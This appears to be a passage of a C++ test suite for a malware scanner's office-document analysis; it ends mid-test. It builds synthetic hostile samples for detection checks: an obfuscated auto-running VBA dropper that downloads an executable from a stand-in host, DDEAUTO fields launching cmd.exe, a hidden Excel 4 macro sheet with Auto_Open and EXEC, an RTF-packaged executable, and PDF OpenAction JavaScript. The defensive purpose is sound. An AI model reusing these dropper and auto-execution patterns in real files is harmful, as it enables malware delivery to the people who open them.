// Documents through featurize_office and the engine handler, on inputs built here: Word and Excel files with VBA
// (tests/support/cfb_builder), OOXML packages written with libarchive (tests/support/ooxml_builder), RTF objects
// (OLE1 wrappers from tests/support/rtf_builder) and PDF keywords by hand, and
// broken compound files (truncated, cyclic chains, oversized streams), each of which must get a verdict and
// anomalies. The scoring tests use the shipped models/office and skip without it.
#include <gtest/gtest.h>
#include <openssl/evp.h>

#include <filesystem>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/iocs.hpp"
#include "engine/scanner.hpp"
#include "features/office_features.hpp"
#include "features/office_internal.hpp"
#include "formats/ole2/ole2.hpp"
#include "support/cfb_builder.hpp"
#include "support/office_sample.hpp"
#include "support/ooxml_builder.hpp"
#include "support/rtf_builder.hpp"

namespace {

using namespace mamori;
using namespace mamori::test;

std::vector<std::uint8_t> bytes_of(std::string_view s) { return {s.begin(), s.end()}; }

bool has_anomaly(const std::vector<std::string>& a, std::string_view prefix) {
  for (const auto& s : a)
    if (s.rfind(prefix, 0) == 0) return true;
  return false;
}

VbaSpec dropper_spec() {
  VbaSpec v;
  v.modules = {
      {"ThisDocument",
       "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  Qxzvbrt\r\nEnd Sub\r\n",
       std::vector<std::uint8_t>(700, 0xA5), false},
      {"Module1",
       "Attribute VB_Name = \"Module1\"\r\nSub Qxzvbrt()\r\n  Dim s As String\r\n"
       "  s = Chr(99 + 0) & Chr(109) & \"d /c \" & StrReverse(\"exe.c/ptth\")\r\n"
       "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run s, 0\r\n"
       "  URLDownloadToFile 0, \"http://example.invalid/x.exe\", Environ(\"TEMP\") & \"\\x.exe\", 0, 0\r\nEnd Sub\r\n",
       std::vector<std::uint8_t>(1200, 0x5A), true},
  };
  return v;
}

std::string hex(const std::vector<std::uint8_t>& b) {
  static const char* d = "0123456789abcdef";
  std::string s;
  for (auto c : b) s += d[c >> 4], s += d[c & 15];
  return s;
}

TEST(OfficeFeatures, WordMacroDropper) {
  const auto doc = build_word_doc(dropper_spec());
  const auto s = featurize(doc);
  EXPECT_EQ(s.doc_type, "ole2-word");
  EXPECT_TRUE(s.has_macros);
  EXPECT_TRUE(s.autoexec);
  EXPECT_TRUE(s.executes);
  EXPECT_TRUE(features::office_baseline_rule(s.x));
  EXPECT_EQ(feature(s, "doc.is_ole2_word"), 1.0f);
  EXPECT_EQ(feature(s, "vba.modules"), 2.0f);
  EXPECT_EQ(feature(s, "macro_kw.document_open"), 1.0f);
  EXPECT_EQ(feature(s, "macro_kw.urldownloadtofile"), 1.0f);
  EXPECT_EQ(feature(s, "macro_kw.strreverse"), 1.0f);
  EXPECT_EQ(feature(s, "macro_str.wscript.shell"), 1.0f);
  EXPECT_EQ(feature(s, "macro_obf.chr_calls"), 2.0f);
  EXPECT_EQ(feature(s, "macro_obf.chr_arithmetic"), 1.0f);
  EXPECT_GT(feature(s, "macro_obf.concat_amp_per_line"), 0.0f);
  EXPECT_TRUE(std::isnan(feature(s, "pdf.obj")));  // groups of other formats are missing, not zero
  // The matching lines, with module and line number.
  bool auto_line = false, download_line = false;
  for (const auto& h : s.hits) {
    if (h.category == "autoexec" && h.where == "vba:ThisDocument:2") auto_line = h.text == "Private Sub Document_Open()";
    if (h.category == "download") download_line = h.text.find("URLDownloadToFile") != std::string::npos;
  }
  EXPECT_TRUE(auto_line);
  EXPECT_TRUE(download_line);
  double sum = 0;
  for (std::size_t i = 0; i < s.x.size(); ++i)
    if (features::office_schema().features[i].group == "macro_bigrams") sum += s.x[i];
  EXPECT_NEAR(sum, 1.0, 1e-3);  // bigram fractions of all tokens
}

TEST(OfficeFeatures, MacroFreeSpreadsheetIsNotTheRule) {
  CfbSpec s;
  // BOF, BOUNDSHEET8 (visible worksheet "S"), EOF.
  const std::vector<std::uint8_t> wb = {0x09, 0x08, 4, 0, 0, 6, 5, 0, 0x85, 0, 9, 0, 0, 0, 0, 0, 0, 0, 1, 0, 'S',
                                        0x0A, 0, 0, 0};
  s.streams.push_back({"Workbook", wb});
  const auto doc = build_cfb(s);
  const auto f = featurize(doc);
  EXPECT_EQ(f.doc_type, "ole2-excel");
  EXPECT_FALSE(f.has_macros);
  EXPECT_FALSE(features::office_baseline_rule(f.x));
  EXPECT_EQ(feature(f, "xlm.sheets"), 1.0f);
  EXPECT_EQ(feature(f, "xlm.macro_sheets"), 0.0f);
}

TEST(OfficeFeatures, Excel4MacroSheetInBiff) {
  std::vector<std::uint8_t> wb;
  auto rec = [&](std::uint16_t id, std::vector<std::uint8_t> body) {
    wb.push_back(static_cast<std::uint8_t>(id));
    wb.push_back(static_cast<std::uint8_t>(id >> 8));
    wb.push_back(static_cast<std::uint8_t>(body.size()));
    wb.push_back(static_cast<std::uint8_t>(body.size() >> 8));
    wb.insert(wb.end(), body.begin(), body.end());
  };
  rec(0x0809, {0, 6, 5, 0});                                    // BOF globals
  rec(0x0085, {0, 0, 0, 0, 2, 1, 1, 0, 'M'});                   // very hidden macro sheet "M"
  rec(0x0018, {0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1});  // built-in name 0x01 = Auto_Open
  rec(0x0809, {0, 6, 0x40, 0});                                 // BOF macro sheet
  // FORMULA: cell + value + flags + chn (20 bytes), cce, rgce = ptgStr "calc" ptgFuncVar(1 arg, EXEC=110)
  std::vector<std::uint8_t> f(20, 0);
  const std::vector<std::uint8_t> rgce = {0x17, 4, 0, 'c', 'a', 'l', 'c', 0x42, 1, 110, 0};
  f.push_back(static_cast<std::uint8_t>(rgce.size()));
  f.push_back(0);
  f.insert(f.end(), rgce.begin(), rgce.end());
  rec(0x0006, f);
  rec(0x000A, {});
  CfbSpec s;
  s.streams.push_back({"Workbook", wb});
  const auto doc = build_cfb(s);
  const auto x = featurize(doc);
  EXPECT_TRUE(x.has_macros);
  EXPECT_EQ(feature(x, "xlm.macro_sheets"), 1.0f);
  EXPECT_EQ(feature(x, "xlm.very_hidden_sheets"), 1.0f);
  EXPECT_EQ(feature(x, "xlm.auto_open_names"), 1.0f);
  EXPECT_EQ(feature(x, "xlm.exec"), 1.0f);
  EXPECT_TRUE(x.autoexec && x.executes);
}

TEST(OfficeFeatures, OoxmlRemoteTemplateAndDde) {
  const std::string doc =
      "<w:document xmlns:w=\"x\"><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
      "<w:r><w:instrText xml:space=\"preserve\"> DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\x\\\\cmd.exe "
      "\"/k calc\"</w:instrText></w:r></w:p></w:body></w:document>";
  const auto z = ooxml_package({{"[Content_Types].xml", kWordContentTypes},
                                {"word/document.xml", doc},
                                {"word/_rels/settings.xml.rels",
                                 attached_template_rels("http://example.invalid/t.dotm")},
                                {"word/embeddings/oleObject1.bin", std::string("MZ") + std::string(100, 'x')}});
  const auto s = featurize(z);
  EXPECT_EQ(s.doc_type, "ooxml-word");
  EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f);
  EXPECT_EQ(feature(s, "ooxml.external_http"), 1.0f);
  EXPECT_EQ(feature(s, "ooxml.ddeauto_fields"), 1.0f);
  EXPECT_EQ(feature(s, "ooxml.embedded_exe"), 1.0f);
  EXPECT_EQ(feature(s, "ooxml.content_types"), 2.0f);
  ASSERT_EQ(s.embedded.size(), 1u);
  EXPECT_EQ(s.embedded[0].name, "word/embeddings/oleObject1.bin");
  bool tmpl = false, dde = false;
  for (const auto& h : s.hits) {
    tmpl |= h.category == "remote-template" && h.text.find("http://example.invalid/t.dotm") != std::string::npos;
    dde |= h.category == "dde";
  }
  EXPECT_TRUE(tmpl);
  EXPECT_TRUE(dde);
}

TEST(OfficeFeatures, OoxmlVbaProjectIsAnalysed) {
  const auto bin = build_vba_project_bin(dropper_spec());
  const auto z = ooxml_package({{"[Content_Types].xml", kWordContentTypes},
                                {"word/document.xml", "<w:document/>"},
                                {"word/vbaProject.bin", std::string(bin.begin(), bin.end())}});
  const auto f = featurize(z);
  EXPECT_EQ(feature(f, "ooxml.vba_project"), 1.0f);
  EXPECT_EQ(feature(f, "vba.modules"), 2.0f);
  EXPECT_TRUE(features::office_baseline_rule(f.x));
}

// The handler reports the IOCs the feature pass's evaluator found instead of evaluating the macros again: they
// must be what the evaluator finds on the compound file itself (OLE2) and on the vbaProject.bin part (OOXML).
TEST(OfficeHandler, MacroIocsComeFromTheFeaturePass) {
  const auto doc = build_word_doc(dropper_spec());
  const auto bin = build_vba_project_bin(dropper_spec());
  const auto z = ooxml_package({{"[Content_Types].xml", kWordContentTypes},
                                {"word/document.xml", "<w:document/>"},
                                {"word/vbaProject.bin", std::string(bin.begin(), bin.end())}});
  const engine::Scanner eng(std::optional<model::Model>{}, engine::Options{});
  for (const auto* file : {&doc, &bin, &z}) {
    const ByteView view(file->data(), file->size());
    const auto cfb = ole2::parse(file == &z ? ByteView(bin.data(), bin.size()) : view);
    ASSERT_TRUE(cfb.ok());
    const auto expected = analysis::iocs_from_ole2(*cfb);
    const auto s = featurize(*file);
    ASSERT_EQ(s.macro_iocs.size(), expected.size());
    bool url = false;
    for (std::size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(s.macro_iocs[i].type, expected[i].type);
      EXPECT_EQ(s.macro_iocs[i].value, expected[i].value);
      EXPECT_EQ(s.macro_iocs[i].where, expected[i].where);
      url |= expected[i].type == "url" && expected[i].value == "http://example.invalid/x.exe";
    }
    EXPECT_TRUE(url);
    const auto r = eng.scan_bytes(view, "doc");
    bool reported = false;
    for (const auto& i : r.iocs) reported |= i.type == "url" && i.value == "http://example.invalid/x.exe";
    EXPECT_TRUE(reported);
  }
}

TEST(OfficeFeatures, RtfEquationObject) {
  const std::vector<std::uint8_t> native = bytes_of("\xD0\xCF\x11\xE0payload");
  std::string h = hex(ole1_embedded("Equation.3", native));
  h.insert(10, "\r\n ");  // whitespace inside the hex is legal and common
  const std::string rtf = "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + h + "}}}";
  const auto s = featurize(bytes_of(rtf));
  EXPECT_EQ(s.doc_type, "rtf");
  EXPECT_EQ(feature(s, "rtf.objects"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.objupdate"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.class_equation"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.embedded_ole2"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.header_nonstandard"), 0.0f);
  ASSERT_EQ(s.embedded.size(), 1u);
  EXPECT_EQ(s.embedded[0].bytes, native);
}

TEST(OfficeFeatures, RtfUnbalancedAndOddHex) {
  const auto s = featurize(bytes_of("{\\rtf{\\object{\\*\\objdata 0102030}"));
  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf.unclosed_groups"));
  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf.objdata_odd_nibbles"));
  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf.header_variant"));
  EXPECT_EQ(feature(s, "rtf.unbalanced"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.odd_hex"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.header_nonstandard"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.ole1_malformed"), 1.0f);
}

// The rtf module reads object data the way Word does (a \'hh takes back the digit before it) and keeps field
// instructions; the features see both. The old scanner in the feature code read "0\'cc1" as 0x0C 0x01.
TEST(OfficeFeatures, RtfPackageFieldAndWordStyleHex) {
  const std::vector<std::uint8_t> payload = bytes_of("MZ payload of the package");
  // Package native data ([MS-OLEDS] Packager layout) in an OLE1 object.
  const auto native = package_native("invoice.exe", "C:\\a\\invoice.exe", "C:\\t\\invoice.exe", payload);
  std::string h = hex(ole1_embedded("Package", native));
  // "0\'cc" before the first real digit: Word drops the 0 and the cc.
  h.insert(2, "0\\'cc");
  const std::string rtf = "{\\rtf1{\\field{\\*\\fldinst {DDEAU}{TO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}}}"
                          "{\\object\\objemb{\\*\\objdata " + h + "}}}";
  const auto s = featurize(bytes_of(rtf));
  EXPECT_EQ(feature(s, "rtf.fields"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.ddeauto"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.objemb"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.class_package"), 1.0f);
  EXPECT_EQ(feature(s, "rtf.ole1_malformed"), 0.0f);
  EXPECT_EQ(feature(s, "rtf.embedded_pe"), 1.0f);
  // The member is the packaged file itself, so the engine types it as what it is.
  ASSERT_EQ(s.embedded.size(), 1u);
  EXPECT_EQ(s.embedded[0].name, "rtf-object-1-Package");
  EXPECT_EQ(s.embedded[0].bytes, payload);
  bool dde = false;
  for (const auto& hit : s.hits) dde |= hit.category == "dde" && hit.text.find("DDEAUTO c:") != std::string::npos;
  EXPECT_TRUE(dde);
}

// OOXML macro sheets go through the xls module: formulas decoded and counted by function number (the old
// substring counts took "=EXECUTE(" or a cell text "exec(" for EXEC), names and sheet states from workbook.xml.
TEST(OfficeFeatures, OoxmlMacroSheetThroughXlsModule) {
  const std::string cells =
      "<c r=\"A1\"><f>EXEC(\"cmd /c calc\")</f></c><c r=\"B1\" t=\"str\"><v>exec( is only text here</v></c>"
      "<c r=\"C1\"><f>HALT()</f></c>";
  const auto z = ooxml_package({{"[Content_Types].xml", kWordContentTypes},
                                {"xl/workbook.xml", macro_workbook_xml("veryHidden", AutoOpenName::hidden)},
                                {"xl/_rels/workbook.xml.rels", kMacroWorkbookRels},
                                {"xl/macrosheets/sheet1.xml", macrosheet_xml(cells)}});
  const auto s = featurize(z);
  EXPECT_TRUE(s.has_macros);
  EXPECT_EQ(feature(s, "xlm.sheets"), 2.0f);
  EXPECT_EQ(feature(s, "xlm.macro_sheets"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.very_hidden_sheets"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.hidden_macro_sheets"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.auto_open_names"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.exec"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.halt"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.macro_formulas"), 2.0f);
  EXPECT_EQ(feature(s, "ooxml.has_main_part"), 1.0f);
  EXPECT_TRUE(s.autoexec && s.executes);
  bool exec_hit = false;
  for (const auto& h : s.hits) exec_hit |= h.category == "execute" && h.where == "xlm:M!A1";
  EXPECT_TRUE(exec_hit);
}

TEST(OfficeFeatures, PdfKeywordsAndEscapedNames) {
  const std::string pdf =
      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R /Names << /J#61vaScript 3 0 R >> >>\nendobj\n"
      "2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n"
      "%%EOF\ngarbage";
  const auto s = featurize(bytes_of(pdf));
  EXPECT_EQ(s.doc_type, "pdf");
  EXPECT_EQ(feature(s, "pdf.obj"), 2.0f);
  EXPECT_EQ(feature(s, "pdf.endobj"), 2.0f);
  EXPECT_EQ(feature(s, "pdf.JavaScript"), 2.0f);
  EXPECT_EQ(feature(s, "pdf.JS"), 1.0f);
  EXPECT_EQ(feature(s, "pdf.OpenAction"), 1.0f);
  EXPECT_EQ(feature(s, "pdf.obfuscated_names"), 1.0f);
  EXPECT_EQ(feature(s, "pdf.after_eof"), 7.0f);
}

TEST(OfficeFeatures, EncryptedPackageNotOpenedByDefaultPassword) {
  // Agile descriptor whose encrypted key does not come from "VelvetSweatshop": reported, not decrypted.
  std::vector<std::uint8_t> info = {4, 0, 4, 0, 0x40, 0, 0, 0};
  const std::string xml =
      "<?xml version=\"1.0\"?><encryption><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" "
      "cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" "
      "saltValue=\"AAECAwQFBgcICQoLDA0ODw==\"/><keyEncryptors><keyEncryptor><p:encryptedKey spinCount=\"1000\" "
      "saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" hashAlgorithm=\"SHA512\" "
      "saltValue=\"AAECAwQFBgcICQoLDA0ODw==\" encryptedKeyValue=\"AAECAwQFBgcICQoLDA0ODwABAgMEBQYHCAkKCwwNDg8=\"/>"
      "</keyEncryptor></keyEncryptors></encryption>";
  info.insert(info.end(), xml.begin(), xml.end());
  std::vector<std::uint8_t> pkg(8 + 4096, 0x11);
  pkg[0] = 0x00;
  pkg[1] = 0x10;
  for (int i = 2; i < 8; ++i) pkg[static_cast<std::size_t>(i)] = 0;
  CfbSpec s;
  s.streams = {{"EncryptionInfo", info}, {"EncryptedPackage", pkg}};
  const auto doc = build_cfb(s);
  const auto f = featurize(doc);
  EXPECT_EQ(f.doc_type, "ole2-encrypted-package");
  EXPECT_EQ(f.encryption, "ooxml-agile");
  EXPECT_FALSE(f.decrypted);
  EXPECT_EQ(feature(f, "encryption.encrypted"), 1.0f);
  EXPECT_EQ(feature(f, "encryption.decrypted"), 0.0f);

  // Through the engine: suspicious by default (issue 3: content that cannot be analysed), only reported when the
  // site turns that off.
  engine::Options opt;
  opt.encrypted_documents_are_suspicious = false;
  engine::Scanner plain(std::optional<model::Model>{}, opt);
  auto r = plain.scan_bytes(ByteView(doc.data(), doc.size()), "enc.xlsx");
  EXPECT_FALSE(r.found());
  EXPECT_TRUE(has_anomaly(r.anomalies, "encrypted_not_decrypted"));
  engine::Scanner strict(std::optional<model::Model>{}, engine::Options{});
  r = strict.scan_bytes(ByteView(doc.data(), doc.size()), "enc.xlsx");
  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
  EXPECT_EQ(r.signature, "Mamori.Office.Encrypted");
  EXPECT_TRUE(has_anomaly(r.anomalies, "encrypted_not_decrypted"));
}

// Encrypted packages that open: built here with the [MS-OFFCRYPTO] key derivation written out plainly (one EVP
// digest per round), independently of the library's spin loop, so a wrong round, byte order or padding there shows.
namespace pkgcrypt {

using Bytes = std::vector<std::uint8_t>;

Bytes cat(const Bytes& a, const Bytes& b) {
  Bytes r = a;
  r.insert(r.end(), b.begin(), b.end());
  return r;
}

Bytes le32(std::uint32_t v) { return {static_cast<std::uint8_t>(v), static_cast<std::uint8_t>(v >> 8),
                                      static_cast<std::uint8_t>(v >> 16), static_cast<std::uint8_t>(v >> 24)}; }

Bytes md_of(const EVP_MD* md, const Bytes& in) {
  Bytes out(static_cast<std::size_t>(EVP_MD_get_size(md)));
  unsigned n = 0;
  EVP_Digest(in.data(), in.size(), out.data(), &n, md, nullptr);
  return out;
}

// H0 = H(salt + UTF-16LE password), Hn = H(LE32(n - 1) + Hn-1).
Bytes spun(const EVP_MD* md, const Bytes& salt, std::string_view ascii_password, std::uint32_t spins) {
  Bytes pw;
  for (char c : ascii_password) pw.insert(pw.end(), {static_cast<std::uint8_t>(c), 0});
  Bytes h = md_of(md, cat(salt, pw));
  for (std::uint32_t i = 0; i < spins; ++i) h = md_of(md, cat(le32(i), h));
  return h;
}

Bytes fit(Bytes b, std::size_t n) {
  b.resize(n, 0x36);
  return b;
}

// AES without padding; CBC with `iv`, ECB when `iv` is empty.
Bytes aes(const Bytes& key, const Bytes& iv, const Bytes& plain) {
  const EVP_CIPHER* c = key.size() == 16 ? (iv.empty() ? EVP_aes_128_ecb() : EVP_aes_128_cbc())
                                         : (iv.empty() ? EVP_aes_256_ecb() : EVP_aes_256_cbc());
  Bytes out(plain.size() + 16);
  int n1 = 0, n2 = 0;
  EVP_CIPHER_CTX* ctx = EVP_CIPHER_CTX_new();
  EVP_EncryptInit_ex(ctx, c, nullptr, key.data(), iv.empty() ? nullptr : iv.data());
  EVP_CIPHER_CTX_set_padding(ctx, 0);
  EVP_EncryptUpdate(ctx, out.data(), &n1, plain.data(), static_cast<int>(plain.size()));
  EVP_EncryptFinal_ex(ctx, out.data() + n1, &n2);
  EVP_CIPHER_CTX_free(ctx);
  out.resize(static_cast<std::size_t>(n1 + n2));
  return out;
}

std::string b64(const Bytes& b) {
  std::string s(4 * ((b.size() + 2) / 3) + 1, '\0');
  const int n = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(s.data()), b.data(), static_cast<int>(b.size()));
  s.resize(static_cast<std::size_t>(n));
  return s;
}

Bytes padded(Bytes b) {
  b.resize((b.size() + 15) / 16 * 16, 0);
  return b;
}

Bytes counted(const Bytes& plain, const Bytes& cipher) {
  Bytes r;
  const auto n = static_cast<std::uint64_t>(plain.size());
  for (int i = 0; i < 8; ++i) r.push_back(static_cast<std::uint8_t>(n >> (8 * i)));
  return cat(r, cipher);
}

// Agile encryption ([MS-OFFCRYPTO] 2.3.4.10-15) of `package` with `password`, every hash `hash` (OpenSSL's name,
// "SHA512", "SHA1"...), AES-256-CBC, spun `spins` times.
std::vector<std::uint8_t> agile_cfb(const Bytes& package, std::string_view hash, std::string_view password,
                                    std::uint32_t spins) {
  const EVP_MD* md = EVP_get_digestbyname(std::string(hash).c_str());
  Bytes kd_salt, ek_salt, secret;
  for (int i = 0; i < 16; ++i) kd_salt.push_back(static_cast<std::uint8_t>(i * 7 + 1));
  for (int i = 0; i < 16; ++i) ek_salt.push_back(static_cast<std::uint8_t>(200 - i * 3));
  for (int i = 0; i < 32; ++i) secret.push_back(static_cast<std::uint8_t>(i * 11 + 5));
  const Bytes key_block = {0x14, 0x6e, 0x0b, 0xe7, 0xab, 0xac, 0xd0, 0xd6};
  const Bytes kek = fit(md_of(md, cat(spun(md, ek_salt, password, spins), key_block)), 32);
  const Bytes enc_key = aes(kek, ek_salt, secret);
  const Bytes body = padded(package);
  Bytes enc_body;
  for (std::uint32_t seg = 0; seg * 4096u < body.size(); ++seg) {
    const Bytes chunk(body.begin() + seg * 4096, body.begin() + std::min<std::size_t>(body.size(), (seg + 1) * 4096u));
    enc_body = cat(enc_body, aes(secret, fit(md_of(md, cat(kd_salt, le32(seg))), 16), chunk));
  }
  const std::string h(hash), bits = "256", size = std::to_string(EVP_MD_get_size(md));
  const std::string xml =
      "<?xml version=\"1.0\"?><encryption><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"" + bits +
      "\" hashSize=\"" + size + "\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"" + h +
      "\" saltValue=\"" + b64(kd_salt) + "\"/><keyEncryptors><keyEncryptor><p:encryptedKey spinCount=\"" +
      std::to_string(spins) + "\" saltSize=\"16\" blockSize=\"16\" keyBits=\"" + bits + "\" hashSize=\"" + size +
      "\" hashAlgorithm=\"" + h + "\" saltValue=\"" + b64(ek_salt) + "\" encryptedKeyValue=\"" + b64(enc_key) +
      "\"/></keyEncryptor></keyEncryptors></encryption>";
  const Bytes info = cat({4, 0, 4, 0, 0x40, 0, 0, 0}, Bytes(xml.begin(), xml.end()));
  CfbSpec s;
  s.streams = {{"EncryptionInfo", info}, {"EncryptedPackage", counted(package, enc_body)}};
  return build_cfb(s);
}

// Standard encryption ([MS-OFFCRYPTO] 2.3.4.5-9): SHA-1 spun 50,000 times, AES-128-ECB, a verifier and its hash.
std::vector<std::uint8_t> standard_cfb(const Bytes& package, std::string_view password) {
  const EVP_MD* sha1 = EVP_sha1();
  Bytes salt, verifier;
  for (int i = 0; i < 16; ++i) salt.push_back(static_cast<std::uint8_t>(i * 13 + 3));
  for (int i = 0; i < 16; ++i) verifier.push_back(static_cast<std::uint8_t>(i * 5 + 9));
  const Bytes hfinal = md_of(sha1, cat(spun(sha1, salt, password, 50000), le32(0)));
  Bytes b1(64, 0x36), b2(64, 0x5C);
  for (std::size_t i = 0; i < hfinal.size(); ++i) b1[i] ^= hfinal[i], b2[i] ^= hfinal[i];
  const Bytes x = cat(md_of(sha1, b1), md_of(sha1, b2));
  const Bytes key(x.begin(), x.begin() + 16);
  Bytes vhash = md_of(sha1, verifier);
  vhash.resize(32, 0);
  Bytes header;
  for (std::uint32_t v : {0x24u, 0u, 0x660Eu, 0x8004u, 128u, 0x18u, 0u, 0u}) header = cat(header, le32(v));
  header.insert(header.end(), {'A', 0, 0, 0});  // CSP name "A"
  Bytes info = {3, 0, 2, 0};
  info = cat(cat(cat(info, le32(0x24)), le32(static_cast<std::uint32_t>(header.size()))), header);
  info = cat(cat(cat(info, le32(16)), salt), aes(key, {}, verifier));
  info = cat(cat(info, le32(20)), aes(key, {}, vhash));
  CfbSpec s;
  s.streams = {{"EncryptionInfo", info}, {"EncryptedPackage", counted(package, aes(key, {}, padded(package)))}};
  return build_cfb(s);
}

}  // namespace pkgcrypt

TEST(OfficeFeatures, AgilePackagesOpenWithEveryHash) {
  const auto inner =
      ooxml_package({{"[Content_Types].xml", kWordContentTypes}, {"word/document.xml", "<w:document/>"}});
  for (const char* hash : {"SHA512", "SHA384", "SHA256", "SHA1"}) {
    SCOPED_TRACE(hash);
    // The default password, with a spin count of its own.
    auto s = featurize(pkgcrypt::agile_cfb(inner, hash, "VelvetSweatshop", 1234));
    EXPECT_EQ(s.encryption, "ooxml-agile");
    ASSERT_TRUE(s.decrypted);
    EXPECT_EQ(s.password, "VelvetSweatshop");
    EXPECT_EQ(s.decrypted_package, inner);
    EXPECT_EQ(feature(s, "encryption.decrypted"), 1.0f);
    // A caller's password, after the default one failed; and one nobody gave.
    const auto doc = pkgcrypt::agile_cfb(inner, hash, "s3cret", 100000);
    features::OfficeOptions opt;
    opt.passwords = {"wrong", "s3cret"};
    s = features::featurize_office(ByteView(doc.data(), doc.size()), opt);
    ASSERT_TRUE(s.decrypted);
    EXPECT_EQ(s.password, "s3cret");
    EXPECT_EQ(s.decrypted_package, inner);
    s = featurize(doc);
    EXPECT_FALSE(s.decrypted);
    EXPECT_TRUE(s.decrypted_package.empty());
    // The password that opens it in the second batch of eight, after fourteen that do not.
    opt.passwords.clear();
    for (int i = 0; i < 14; ++i) opt.passwords.push_back("no" + std::to_string(i));
    opt.passwords.push_back("s3cret");
    s = features::featurize_office(ByteView(doc.data(), doc.size()), opt);
    ASSERT_TRUE(s.decrypted);
    EXPECT_EQ(s.password, "s3cret");
    EXPECT_EQ(s.decrypted_package, inner);
  }
}

// The SHA-512 spin loops of several passwords at once (eight per AVX-512 register where the processor has it, one
// after another where not) against the derivation written out with plain EVP: spin counts 0 to 1,000, one to
// seventeen passwords (a second and third batch), passwords of different lengths and a non-ASCII one.
TEST(OfficeFeatures, Sha512SpinsOfSeveralPasswordsAtOnceMatchOneByOne) {
  namespace office = mamori::features::office;
  std::vector<std::string> pool;
  for (int i = 0; i < 17; ++i) pool.push_back(std::string(static_cast<std::size_t>(i % 5 + 1), static_cast<char>('a' + i)) + std::to_string(i));
  pkgcrypt::Bytes salt;
  for (int i = 0; i < 16; ++i) salt.push_back(static_cast<std::uint8_t>(i * 29 + 7));
  for (std::uint32_t spins : {0u, 1u, 2u, 77u, 1000u}) {
    for (std::size_t n : {1u, 2u, 7u, 8u, 9u, 17u}) {
      std::vector<std::string_view> pws(pool.begin(), pool.begin() + static_cast<std::ptrdiff_t>(n));
      for (bool lanes : {true, false}) {
        const auto got = office::spun_sha512_hashes(salt, spins, pws, lanes);
        ASSERT_EQ(got.size(), n);
        for (std::size_t k = 0; k < n; ++k)
          EXPECT_EQ(got[k], pkgcrypt::spun(EVP_sha512(), salt, pws[k], spins)) << spins << " " << n << " " << k << " " << lanes;
      }
    }
  }
  // UTF-16LE of a non-ASCII password (as the package's own derivation encodes it).
  const std::vector<std::string_view> pws = {"caf\xC3\xA9", "x"};
  const auto got = office::spun_sha512_hashes(salt, 50, pws, true);
  pkgcrypt::Bytes pw = {'c', 0, 'a', 0, 'f', 0, 0xE9, 0};
  pkgcrypt::Bytes h = pkgcrypt::md_of(EVP_sha512(), pkgcrypt::cat(salt, pw));
  for (std::uint32_t i = 0; i < 50; ++i) h = pkgcrypt::md_of(EVP_sha512(), pkgcrypt::cat(pkgcrypt::le32(i), h));
  EXPECT_EQ(got[0], h);
  if (!office::spin_lanes_available()) std::cout << "[ NOTE ] no AVX-512 here: only the one-by-one path ran\n";
}

TEST(OfficeFeatures, StandardPackageOpensWithTheDefaultOrAGivenPassword) {
  const auto inner =
      ooxml_package({{"[Content_Types].xml", kWordContentTypes}, {"word/document.xml", "<w:document/>"}});
  auto s = featurize(pkgcrypt::standard_cfb(inner, "VelvetSweatshop"));
  EXPECT_EQ(s.encryption, "ooxml-standard");
  ASSERT_TRUE(s.decrypted);
  EXPECT_EQ(s.decrypted_package, inner);
  const auto doc = pkgcrypt::standard_cfb(inner, "infected");
  EXPECT_FALSE(featurize(doc).decrypted);
  features::OfficeOptions opt;
  opt.passwords = {"infected"};
  s = features::featurize_office(ByteView(doc.data(), doc.size()), opt);
  ASSERT_TRUE(s.decrypted);
  EXPECT_EQ(s.password, "infected");
  EXPECT_EQ(s.decrypted_package, inner);
}

TEST(OfficeHandler, EmbeddedObjectsAreScannedAsMembers) {
  const auto inner = build_word_doc(dropper_spec());
  const auto z2 = ooxml_package({{"[Content_Types].xml", kWordContentTypes},
                                 {"word/document.xml", "<w:document/>"},
                                 {"word/embeddings/oleObject1.bin", std::string(inner.begin(), inner.end())}});
  engine::Scanner s(std::optional<model::Model>{}, engine::Options{});
  const auto r = s.scan_bytes(ByteView(z2.data(), z2.size()), "outer.docx");
  ASSERT_EQ(r.members.size(), 1u);
  EXPECT_EQ(r.members[0].path, "outer.docx!word/embeddings/oleObject1.bin");
  EXPECT_EQ(r.members[0].type.kind, engine::FileKind::ole2);
